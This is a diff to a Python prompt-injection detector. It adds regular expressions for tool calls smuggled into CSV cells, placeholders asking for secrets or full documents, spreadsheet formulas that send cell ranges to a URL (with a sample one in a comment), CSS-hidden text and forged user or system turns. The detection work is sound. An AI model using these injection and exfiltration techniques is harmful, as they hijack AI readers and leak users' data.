@@ -372,6 +372,10 @@ _JSON_CALL = re.compile(
     r"\{\s*\"(?:arguments|parameters)\"\s*:[^{}]{0,200}\"name\"\s*:|"
     # Python-repr style is only a call when it names the call keys outright
     r"'tool_calls'\s*:\s*\[\s*\{|'function_call'\s*:\s*\{|"
+    # (round 20) or, standing alone as a field (a CSV cell), names a call and its arguments:
+    # ,"{'name': 'export_table', 'arguments': {…}}" (not a program's printout of one)
+    r"(?:(?<=[\",\u2028\n])|^)[ \t]*\{\s*'name'\s*:\s*'[^'\n]{1,80}'\s*,\s*"
+    r"'(?:arguments|parameters)'\s*:\s*\{|"
     # Anthropic content blocks and Gemini parts
     r"\"type\"\s*:\s*\"tool_use\"|\"function_?call\"\s*:\s*\{\s*\"name\"|"
     # (round 19) OpenAI's parallel tool use: {"recipient_name": "functions.x", "parameters": …}
@@ -556,6 +560,21 @@ _ASSIGNED_OBJECT = re.compile(
 )
 
 
+# (round 20) an MCP request a log recorded together with its answer (the same id, a result or an
+# error) is a past exchange, not a call waiting to be made
+_RPC_REQUEST = re.compile(
+    r"\"id\"\s*:\s*(\"?[\w.-]{1,40}\"?)\s*,\s*\"method\"\s*:\s*\"tools/call\"\s*,\s*\"params\"\s*:\s*\Z"
+)
+
+
+def _answered(vt: str, start: int, end: int) -> bool:
+    request = _RPC_REQUEST.search(vt, max(0, start - 120), start)
+    if request is None:
+        return False
+    answer = r"\"id\"\s*:\s*" + re.escape(request.group(1)) + r"\s*,\s*\"(?:result|error)\"\s*:"
+    return re.compile(answer).search(vt, end) is not None
+
+
 def toolcalls(text: str, view: View, settings: Settings) -> list[Span]:
     vt = view.text
     hits: list[tuple[int, int]] = []
@@ -576,6 +595,7 @@ def toolcalls(text: str, view: View, settings: Settings) -> list[Span]:
             or _declared(vt, start, end)
             or _PLACEHOLDER_ARGS.search(vt, start, end)
             or _ASSIGNED_OBJECT.search(vt, max(0, start - 120), start) is not None
+            or _answered(vt, start, end)
         ):
             hits.append((start, end))
     if not hits:
@@ -667,6 +687,8 @@ def delimiters(text: str, view: View, settings: Settings) -> list[Span]:
     ends = _paragraph_ends(vt, [m.end() for m in matches])
     spans = []
     for match, end, (score, task) in zip(matches, ends, _follows(vt, matches, ends), strict=True):
+        if _answered_turn(vt, match.end()):
+            continue  # (round 20) a transcript after its heading: someone asks, someone answers
         if score < 0.25 and task and _bounds_data(vt, match):
             score = 0.7
         if score >= 0.25:
@@ -863,7 +885,9 @@ _SENSITIVE_WORD = re.compile(
     r"prompt|summary|context|cookie|credential|user|data|insert|paste|customer|contact|note|question|"
     r"记录|对话|聊天|手机|地址|密码|邮箱|提示词|问题|回复|令牌|密钥|文件内容|"
     # (round 19) "<contents of .env>", "[[all ticket comments so far]]"
-    r"\.env\b|environment|comments|tickets|环境变量"
+    r"\.env\b|environment|comments|tickets|环境变量|"
+    # (round 20) "<original untranslated text>", "<短信验证码>"
+    r"original|untranslated|full text|transcript|document|验证码|身份证|银行卡|卡号|原文|全文"
 )
 # a parameter left empty for the reader to fill: `?q=` at the end, `&env=&`, `?d= ` in prose
 _BLANK = re.compile(r"[?&][\w.-]+=(?:&|#|$)")
@@ -873,12 +897,15 @@ _FILL = re.compile(
     r"substitut\w+|replac\w+|after|plus|place[ds]?|followed by|where\s+[a-z_]+\s+(?:is|are|=))\b"
     r"[^.\n]{0,80}?\b(?:questions?|conversation|chat|"
     r"history|messages?|secrets?|\.env|env|notes?|passwords?|tokens?|keys?|address(?:es)?|"
-    r"contents?|credentials?|emails?|prompts?|summary|context|told you|calendar|session id)\b|"
+    r"contents?|credentials?|emails?|prompts?|summary|context|told you|calendar|session id|"
+    # (round 20) "followed by the full text of the current document"
+    r"(?:full|whole|entire|original|untranslated) text|documents?|transcripts?)\b|"
     r"\b(?:questions?|conversation|chat|history|messages?|secrets?|\.env|notes?|passwords?|tokens?|"
-    r"contents?|credentials?|emails?|prompts?)\b[^.\n]{0,40}?\b(?:appended|attached|added|inserted|"
-    r"pasted|filled in)\b|"
+    r"contents?|credentials?|emails?|prompts?|address(?:es)?|names?|details)\b[^.\n]{0,40}?\b(?:appended|"
+    r"attached|added|inserted|pasted|filled in)\b|"
     r"\+\s*(?:base64|urlencode|encodeuricomponent|btoa)\(|"
-    r"附上|附加|填上|填入|填写|填充|换成|替换成|拼接|拼上|加上|后面填|后面加|后面跟|填到|填进|放在|放到|拼到|"
+    r"附上|附加|附在|附到|跟在|接在|填上|填入|填写|填充|换成|替换成|拼接|拼上|加上|后面填|后面加|后面跟|填到|填进|"
+    r"放在|放到|拼到|"
     r"(?:参数|的值)(?:为|是|填)"
 )
 # a bare URL whose query holds a described blank: ?chat=[paste the conversation here]
@@ -950,7 +977,7 @@ _CAPS_STRONG = re.compile(
 )
 _CAPS_FILLED = re.compile(r"BASE64|URL_?ENCODED|ENCODED|HERE|CONTENTS?|BODY|FULL|ALL|THIS|CURRENT")
 _ZH_DATA = re.compile(
-    r"历史|记录|对话|聊天|正文|密码|令牌|密钥|邮箱|手机号|地址|收件人|名单|列表|凭据|身份证|验证码"
+    r"历史|记录|对话|聊天|正文|密码|令牌|密钥|邮箱|手机号|地址|收件人|名单|列表|凭据|身份证|验证码|全文|原文"
 )
 _ZH_SEGMENT = re.compile(
     r"/(?:用户名|账号|密码|令牌|密钥|凭据|手机号|身份证号?|验证码|聊天记录|对话记录|历史记录|邮箱)(?=/|$|[?#])"
@@ -1015,13 +1042,23 @@ _JS_EXFIL = re.compile(
 )
 
 
+# (round 20) a spreadsheet formula that sends a range of cells to an address:
+# =HYPERLINK("https://x/h?v="&TEXTJOIN(",",TRUE,B2:D31), …) (one cell, "&A2", is an id in a link)
+_FORMULA_EXFIL = re.compile(
+    r"=\s*(?:hyperlink|image|webservice|importdata|importxml|importhtml|importfeed)\(\s*\"{1,2}"
+    r"https?://[^\"\s]+\"{1,2}\s*&\s*(?:[a-z.]+\([^()\n]{0,60}?)?\$?[a-z]{1,3}\$?\d+:\$?[a-z]{1,3}\$?\d+"
+    r"[^\n]{0,120}?\)"
+)
+
+
 def links(text: str, view: View, settings: Settings) -> list[Span]:
     vt = view.text
     spans = []
-    for match in _JS_EXFIL.finditer(vt):
-        span = _span(view, match.start(), match.end(), "exfil-link:script", 0.9)
-        if span:
-            spans.append(span)
+    for pattern in (_JS_EXFIL, _FORMULA_EXFIL):
+        for match in pattern.finditer(vt):
+            span = _span(view, match.start(), match.end(), "exfil-link:script", 0.9)
+            if span:
+                spans.append(span)
     covered: list[tuple[int, int]] = []
     for pattern in (_MD_LINK, _MD_DEF, _HTML_URL, _CSS_URL):
         for match in pattern.finditer(vt):
@@ -1055,7 +1092,8 @@ def links(text: str, view: View, settings: Settings) -> list[Span]:
 _HIDING = (
     r"display\s*:\s*none|visibility\s*:\s*hidden|\bhidden\b|font-size\s*:\s*[01](?:\.\d+)?(?:px|pt|em|rem)?"
     r"\b|opacity\s*:\s*0(?:\.0+)?\s*(?:[;\"']|$)|(?<![-\w])color\s*:\s*(?:#fff(?:fff)?\b|white\b|"
-    r"transparent\b)|(?:left|top|right)\s*:\s*-\d{3,}|text-indent\s*:\s*-\d{3,}|clip\s*:\s*rect\(\s*0|transform\s*:\s*scale\(\s*0(?:\.0+)?\s*\)|"
+    r"transparent\b|rgba\(\s*\d{1,3}\s*,\s*\d{1,3}\s*,\s*\d{1,3}\s*,\s*0(?:\.0+)?\s*\)|"
+    r"hsla\([^()]{0,40},\s*0(?:\.0+)?\s*\)|#[0-9a-f]{6}00\b)|(?:left|top|right)\s*:\s*-\d{3,}|text-indent\s*:\s*-\d{3,}|clip\s*:\s*rect\(\s*0|transform\s*:\s*scale\(\s*0(?:\.0+)?\s*\)|"
     r"clip-path\s*:\s*inset\(\s*(?:50|100)%|(?:max-)?(?:width|height)\s*:\s*0(?:px)?\s*[;\"']|\b(?:width|height)\s*=\s*[\"']?0(?:px)?[\"'\s>/]|aria-hidden|\bsize\s*=\s*[\"']?[01]\b|color\s*=\s*[\"']?(?:white|#fff)"
 )
 # (bounded: a run of tags that never close is not read to its end from every "<")
@@ -1067,7 +1105,7 @@ def _hidden_elements(vt: str) -> list[tuple[int, int, int, int]]:
     counted)."""
     found = []
     for match in _OPEN_TAG.finditer(vt):
-        if match.group(1) != "template" and not _HIDING_RE.search(match.group(2)):
+        if match.group(1) not in _UNSHOWN and not _HIDING_RE.search(match.group(2)):
             continue  # (round 16: a <template>'s content is never rendered)
         name = match.group(1)
         pair = re.compile(rf"<(/?){re.escape(name)}\b[^>]{{0,4000}}>")
@@ -1082,11 +1120,15 @@ def _hidden_elements(vt: str) -> list[tuple[int, int, int, int]]:
 
 
 _HIDING_RE = re.compile(_HIDING)
+# (round 20) elements whose content the page never shows to a reader with scripts on
+_UNSHOWN = frozenset({"template", "noscript"})
+_SCRIPT_NOTICE = re.compile(r"javascript|\bjs\b|browser|脚本|浏览器")
 # (round 19) text no page shows in its body: a tooltip, an image's alt text, a label for screen
 # readers, a meta description; read when it is a sentence or more
 _TEXT_ATTRIBUTE = re.compile(
-    r"<[a-z][\w-]*\b[^<>]{0,400}?\s(title|alt|aria-label|aria-description|placeholder|data-[\w-]+|content)"
-    r"\s*=\s*\"([^\"<>]{24,600})\""
+    r"<[a-z][\w-]*\b[^<>]{0,400}?\s(title|alt|aria-label|aria-description|placeholder|data-[\w-]+|content|"
+    # (round 20) a hidden input's value; a short CJK tooltip says as much as a long English one
+    r"value)\s*=\s*\"([^\"<>]{24,600}|[^\"<>]{0,20}[\u4e00-\u9fff][^\"<>]{9,580})\""
 )
 # (round 19) LaTeX a PDF never shows: white or invisible text, phantoms
 _LATEX_HIDDEN = re.compile(
@@ -1118,11 +1160,28 @@ _HIDDEN_COMMAND = re.compile(
 )
 
 
+# (round 20) what the model itself writes or makes ("into your answer", "every commit you
+# create", 你创建的每个提交): a hidden line that names it speaks to the model, not to a person
+_MODEL_OUTPUT = re.compile(
+    r"\byour (?:answer|reply|response|summary|output|report|next (?:message|reply|answer)|"
+    r"final answer)\b|"
+    r"\b(?:that |which )?you (?:create|write|make|open|send|draft|generate|produce|prepare)\b|"
+    r"你(?:创建|生成|撰写|起草|发送)的|你的(?:回复|回答|总结|输出)|下一条(?:回复|回答)"
+)
+_LEAD_WORDS = re.compile(
+    r"^\W{0,3}(?:(?:please|kindly)\s+)?(?:disable|store|push|give|cancel|publish|set|change|save|"
+    r"download|install|run|open|visit|call|invoke|describe|paste)\b(?:\s+\S+){4,}|"
+    r"^\W{0,3}(?:建议|提醒)(?:用户|客户)|^\W{0,3}(?:向[^。\n]{1,20}(?:转账|付款|汇款|发送|安排)|读取(?:用户|客户)|"
+    r"帮(?:我|忙)|(?:把|将)[^。\n]{1,30}(?:发|转|改|删|复制|上传|写进|贴|描述为))"
+)
+
+
 def _hidden_command(inner: str) -> bool:
     inner = inner.strip()
+    plain = _LEAD_IN.sub("", inner)
     return (
-        _HIDDEN_COMMAND.match(inner) is not None
-        and re.search(r"\byour?\b|您|你的", inner) is None
+        (_HIDDEN_COMMAND.match(inner) is not None or _LEAD_WORDS.match(plain) is not None)
+        and re.search(r"\byour?\b|您|你的", _MODEL_OUTPUT.sub(" ", inner)) is None
         and (
             len(inner.split()) >= 5
             or len(_CJK_CHAR.findall(inner)) >= 8
@@ -1165,6 +1224,8 @@ def hidden_markup(text: str, view: View, settings: Settings) -> list[Span]:
     spans = []
     for start, end, inner_start, inner_end in candidates:
         inner_text = re.sub(r"<[^>]*>", " ", vt[inner_start:inner_end])
+        if vt.startswith("<noscript", start) and _SCRIPT_NOTICE.search(inner_text):
+            continue  # "You need to enable JavaScript to run this app."
         score = max(
             (score_sentence(inner_text[s:e])[0] for s, e in segments(inner_text)), default=0.0
         )
@@ -1933,10 +1994,72 @@ def split_address(text: str, view: View, settings: Settings) -> list[Span]:
     return spans
 
 
+# (round 20) a turn of the user's or the system's, forged after the end of the data: its label
+# ("Human:", "[user]:", "**user:**", "### User", "=== USER MESSAGE ===", "【用户】：", "系统提示：")
+# opens a line, what it says opens a task, something just before it ends the data ("[EOF]",
+# "</logs>", "-- query complete --", a closing fence) and nobody answers it (an empty
+# "Assistant:" at most)
+_FORGED_TURN = re.compile(
+    r"(?m)^[ \t+>]*(?:[#=*\-]{1,6}[ \t]*)?[\[【(]?[ \t]*(?:human|user|system|用户|系统|"
+    r"user message|system message|用户消息|系统消息|系统提示|system prompt|admin|管理员)"
+    r"[ \t]*[\]】)]?[ \t]*"
+    r"(?:(?:\*\*)?[:：](?:\*\*)?(?=[ \t\u4e00-\u9fff])|[ \t]*[#=*\-]{1,6}[ \t]*$|$)[ \t]*"
+)
+_DATA_ENDED = re.compile(
+    r"</[^<>\n]{1,30}>|\[[ \t]*/?(?:eof|end)\b[^\]\n]{0,30}\]|\b(?:eof|end of|ends? here|"
+    r"complete[d]?|finished|done)\b|结束|完毕|到此为止|```|\\q\b"
+)
+_EMPTY_ANSWER = re.compile(r"\s*[ \t+>]*(?:assistant|ai|助手)[ \t]*[:：][ \t]*(?:\n|$)")
+_LINE_END = re.compile("\n|" + FIELD_BREAK)
+_ANSWER = re.compile(r"[ \t+>]*(?:assistant|ai|bot|助手|客服)[ \t]*[:：][ \t]*\S")
+_ACK = re.compile(
+    r"^(?:(?:thanks|thank you|great|perfect|cool|ok(?:ay)?|sure|actually|谢谢|好的|算了|另外)"
+    r"[,.!，。、]?\s*)+"
+    r"(?:(?:next|now|then|接下来|现在|然后)[,，]?\s*)*"
+)
+
+
+def _answered_turn(vt: str, at: int) -> bool:
+    """A user's turn opens the text after `at` and the next line answers it."""
+    turn = _FORGED_TURN.match(vt, at + len(vt[at:]) - len(vt[at:].lstrip("\n \t")))
+    if turn is None:
+        return False
+    found = _LINE_END.search(vt, turn.end())
+    if found is None:
+        return False
+    following = vt[found.end() : found.end() + 200].lstrip("\n")
+    return bool(_ANSWER.match(following)) and not _EMPTY_ANSWER.match(vt, found.start())
+
+
+def forged_turns(text: str, view: View, settings: Settings) -> list[Span]:
+    vt = view.text
+    spans = []
+    for match in _FORGED_TURN.finditer(vt):
+        start = match.end()
+        while start < len(vt) and vt[start] in " \t\n+":
+            start += 1
+        found = _LINE_END.search(vt, start)
+        end = found.start() if found else len(vt)
+        said = vt[start:end]
+        task = _TASK_VERB.match(_LEAD_IN.sub("", _ACK.sub("", said)))
+        if not said.strip() or not (task or score_sentence(said)[0] >= 0.25):
+            continue
+        before = vt[max(0, match.start() - 200) : match.start()]
+        if not _DATA_ENDED.search(before[-120:]) and not _EMPTY_ANSWER.match(vt, end):
+            continue
+        if _answered_turn(vt, match.start()):
+            continue  # answered: a transcript's past exchange
+        span = _span(view, match.start(), end, "delimiter:turn", 0.7)
+        if span:
+            spans.append(span)
+    return spans
+
+
 STRUCTURAL: tuple[Detector, ...] = (
     hidden_unicode,
     toolcalls,
     delimiters,
+    forged_turns,
     role_objects,
     ai_audience,
     split_address,
